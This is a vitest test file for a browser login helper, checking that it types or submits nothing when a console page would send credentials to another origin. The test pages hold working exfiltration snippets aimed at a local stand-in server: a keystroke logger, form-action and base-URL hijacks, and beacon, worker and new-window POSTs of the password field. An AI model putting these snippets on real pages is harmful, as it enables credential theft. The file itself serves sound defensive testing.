import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { type RecordingServer, recordingServer } from '../../coronerd/testing/recording-server.ts';
import { Unanswered } from '../../unanswered.ts';
import { logInByForm, openLoginPage } from '../login-form.ts';
import { loadConsoleMap } from '../map-file.ts';
import { document, stage } from '../testing/browser.ts';
import { type GuardedPage, openGuarded } from './guarded-page.ts';
import { consolePlaces } from './places.ts';

const { app, origin, browser } = stage();
const account = { username: 'canary-jane', password: 'canary-password-9' };
/** The old server, say: it shows the same form, and tells itself of everything that is typed. */
let old: RecordingServer;
const away = () => `http://127.0.0.1:${old.port}`;

const fields =
  '<label>Username <input name="u"></label><label>Password <input name="p" type="password"></label>';
const telling = `<script>document.addEventListener('input', ({ target }) =>
  fetch('/typed?' + target.name + '=' + target.value));</script>`;
const form = (attributes: string, button = '<button>Log in</button>', more = '') =>
  document(`<form method="post" ${attributes}>${fields}${button}</form>${telling}${more}`);

beforeAll(async () => {
  old = await recordingServer(({ path }, response) => {
    response.setHeader('access-control-allow-origin', '*').setHeader('content-type', 'text/html');
    response.end(path === '/login' ? form('action="/in"') : '');
  });
});
afterAll(() => old.close());

/** What was typed in the page at home, and what it sent there. */
let typed: string[] = [];
let sent: string[] = [];
/** Answers the login page of a test, and the request of its form. */
let page = '';
let leads = { status: 200, to: '' };
beforeEach(() => {
  old.arrived.length = 0;
  [typed, sent, page, leads] = [[], [], '', { status: 200, to: '' }];
});
app.get('/', (c) => c.html(page));
app.get('/moved/:port', (c) => c.redirect(`http://127.0.0.1:${c.req.param('port')}/login`));
app.post('/', async (c) => {
  sent.push(await c.req.text());
  return c.html(document('in'));
});
app.get('/typed', (c) => {
  typed.push(new URL(c.req.url).search);
  return c.body('');
});
app.all('/in', async (c) => {
  sent.push(await c.req.text());
  if (leads.to === '') return c.html(document('in'));
  const query = new URL(c.req.url).search;
  return new Response(null, { status: leads.status, headers: { location: `${leads.to}/in${query}` } });
});
app.get('/worker.js', (c) =>
  c.body(`onmessage = ({ data }) => fetch(data.to, { method: 'POST', body: data.text })`, 200, {
    'content-type': 'text/javascript',
  }),
);

/** Logs in at home, and gives what went wrong, and the page's guard. */
async function logIn(): Promise<{ error: Unanswered; tab: GuardedPage }> {
  const context = await browser().newContext({ baseURL: origin() });
  const tab = await openGuarded(context, consolePlaces(origin(), [account.password]));
  const server = {
    url: new URL(origin()),
    loginWith: () => Promise.reject(new Error('nobody is known')),
  };
  try {
    const map = loadConsoleMap();
    await openLoginPage(tab.page, map, { home: origin(), within: 5_000 });
    await logInByForm(tab, map, account, { server, within: 1_500 });
    throw new Error('the login came off');
  } catch (error) {
    if (error instanceof Unanswered) return { error, tab };
    throw error;
  } finally {
    await context.close();
    await tab.end();
  }
}

/** Nothing that was typed is in any request that arrived on the other server. */
function expectNothingArrived(): void {
  const text = old.arrived.map((each) => `${each.path}?${each.parameters} ${each.body}`).join('\n');
  expect(text).not.toMatch(/canary/);
}

describe('a console that leads to another origin', { timeout: 20_000 }, () => {
  it.each(['redirect', 'script'])('by a %s gets nothing typed there, and is told', async (how) => {
    if (how === 'script') page = document(`<script>location.href = '${away()}/login'</script>`);
    if (how === 'redirect') page = document(`<meta http-equiv="refresh" content="0;url=/moved/${old.port}">`);
    const { error } = await logIn();
    expect(error.message).toContain(`the console redirects to ${away()}: nothing was typed`);
    expect(error.message).toMatch(/Mend the address that the console is configured with, or correct NEW_URL/);
    expect(old.arrived.map(({ path }) => path)).toContain('/login');
    expect(old.arrived.map(({ path }) => path)).not.toContain('/typed');
    expectNothingArrived();
  });

  it('is told where that cannot be opened, too', async () => {
    const closed = await recordingServer(() => ({}));
    await closed.close();
    const context = await browser().newContext({ baseURL: origin() });
    const map = { ...loadConsoleMap(), route: () => `/moved/${closed.port}` };
    const opening = openLoginPage(await context.newPage(), map, { home: origin(), within: 5_000 });
    await expect(opening).rejects.toThrow(
      `the console redirects to http://127.0.0.1:${closed.port}, which cannot be opened`,
    );
    await context.close();
  });

  it('between the look and the hand takes nothing along', async () => {
    // The page notices that it is looked at, and leaves.
    page = form(
      'action="/in"',
      undefined,
      `<script>for (const input of document.querySelectorAll('input')) input.getAttribute = function (name) {
        location.href = '${away()}/login';
        for (const end = Date.now() + 300; Date.now() < end; );
        return Element.prototype.getAttribute.call(this, name);
      };</script>`,
    );
    const { error } = await logIn();
    expect(error.message).toMatch(/redirects to|cannot be used|nothing was typed/);
    expect(old.arrived.map(({ path }) => path)).not.toContain('/typed');
    expectNothingArrived();
  });
});

describe('a form that is sent to another origin', { timeout: 20_000 }, () => {
  it.each([
    ['by its action', () => form(`action="${away()}/in"`)],
    ['by its button', () => form('action="/in"', `<button formaction="${away()}/in">Log in</button>`)],
    [
      'by the button that Enter presses',
      () => form('', `<button formaction="${away()}/in">Anmelden</button>`),
    ],
    [
      'beside a field that is named like its action',
      () =>
        form(
          `action="${away()}/in"`,
          '<input name="action" type="hidden" value="/in"><button>Log in</button>',
        ),
    ],
    ['by the base of the page', () => `<base href="${away()}">${form('action="in"')}`],
  ])('%s gets nothing typed', async (_how, content) => {
    page = content();
    const { error } = await logIn();
    expect(error.message).toContain(
      `the form of the console is sent to ${away()}: it was not filled in or sent`,
    );
    expect(typed).toEqual([]);
    expect(old.arrived.map(({ path }) => path)).not.toContain('/in');
    expectNothingArrived();
  });

  it('from when something was typed is not sent', async () => {
    page = form(
      'action="/in"',
      undefined,
      `<script>document.querySelector('[name=p]').addEventListener('input', () => {
        document.forms[0].action = '${away()}/in';
      });</script>`,
    );
    const { error } = await logIn();
    expect(error.message).toContain(`is sent to ${away()}`);
    expect(old.arrived).toEqual([]);
    expect(sent).toEqual([]);
  });

  it('and one of the page itself are told apart: that one is sent', async () => {
    page = form('');
    const { error } = await logIn();
    expect(error.message).toMatch(/no session came/);
    expect(sent).toEqual([expect.stringContaining(account.password)]);
  });

  it('of a script is sent as the script likes', async () => {
    page = form(
      'action="javascript:void(0)"',
      undefined,
      `<script>document.forms[0].addEventListener('submit', () =>
      fetch('/in', { method: 'POST', body: new URLSearchParams(new FormData(document.forms[0])) }));</script>`,
    );
    await logIn();
    expect(sent).toEqual([expect.stringContaining(account.password)]);
  });
});

describe('what the page sends to another origin', { timeout: 20_000 }, () => {
  const post = `{ method: 'POST', body: new URLSearchParams(new FormData(document.forms[0])) }`;
  const onSubmit = (then: string) => `<script>document.forms[0].addEventListener('submit', (event) => {
    event.preventDefault(); ${then} });</script>`;

  it.each([307, 308])('by a redirect %d of the login is failed before it is sent', async (status) => {
    page = form('action="/in"');
    leads = { status, to: away() };
    const { error } = await logIn();
    expect(sent).toEqual([expect.stringContaining(account.password)]);
    expect(error.message).toContain(`POST ${away()}/in by a redirect was not sent`);
    expect(old.arrived).toEqual([]);
  });

  it('in the address of a redirect is failed before it is sent', async () => {
    page = form('action="/in"').replace('method="post"', 'method="get"');
    leads = { status: 301, to: away() };
    const { error } = await logIn();
    expect(error.message).toContain(`GET ${away()}/in`);
    expect(error.message).not.toContain(account.password);
    expect(old.arrived).toEqual([]);
  });

  it.each([
    ['a request of its script', () => `fetch('${away()}/in', ${post})`],
    ['a redirect of such a request', () => `fetch('/in', ${post})`],
    ['a beacon', () => `navigator.sendBeacon('${away()}/in', document.forms[0].p.value)`],
    [
      'a worker',
      () => `new Worker('/worker.js').postMessage({ to: '${away()}/in', text: document.forms[0].p.value })`,
    ],
    [
      'a form in a new window',
      () => `const form = document.forms[0].cloneNode(true); form.p.value = document.forms[0].p.value;
        form.target = '_blank'; form.action = '${away()}/in'; document.body.append(form);
        HTMLFormElement.prototype.submit.call(form);`,
    ],
  ])('by %s is failed before it is sent', async (_how, then) => {
    page = form('action="/in"', undefined, onSubmit(then()));
    leads = { status: 307, to: away() };
    const { error } = await logIn();
    expect(error.message).toMatch(
      /would have gone elsewhere: POST .*\/in.* was not sent: .* is not the console's origin/,
    );
    expect(old.arrived.map(({ path }) => path)).not.toContain('/in');
    expectNothingArrived();
  });

  it('as its next page is told, whatever is in it', async () => {
    page = form(
      'action="/in"',
      undefined,
      onSubmit(`const form = document.createElement('form'); form.method = 'post';
        form.action = '${away()}/in'; form.innerHTML = '<input name=state value=1>';
        document.body.append(form); form.submit();`),
    );
    const { error } = await logIn();
    expect(error.message).toMatch(/would have gone elsewhere: POST .*\/in was not sent/);
    expect(old.arrived).toEqual([]);
  });

  it.each([
    ['by a script', () => `fetch('${away()}/count', { method: 'POST', body: 'a visit' })`],
    [
      'by a frame',
      () => `const frame = document.createElement('iframe'); frame.name = 'counter'; document.body.append(frame);
        const form = document.createElement('form'); form.method = 'post'; form.target = 'counter';
        form.action = '${away()}/count'; form.innerHTML = '<input name=visit value=1>';
        document.body.append(form); form.submit();`,
    ],
  ])('without what was typed is failed, too, but says nothing of the login: %s', async (_how, then) => {
    page = form('action="/in"', undefined, onSubmit(then()));
    const { error, tab } = await logIn();
    expect(error.message).toMatch(/no session came of the login; POST .*\/count was not sent/);
    expect(tab.stopped).toEqual([{ text: expect.stringContaining('/count was not sent'), grave: false }]);
    expect(old.arrived).toEqual([]);
  });
});
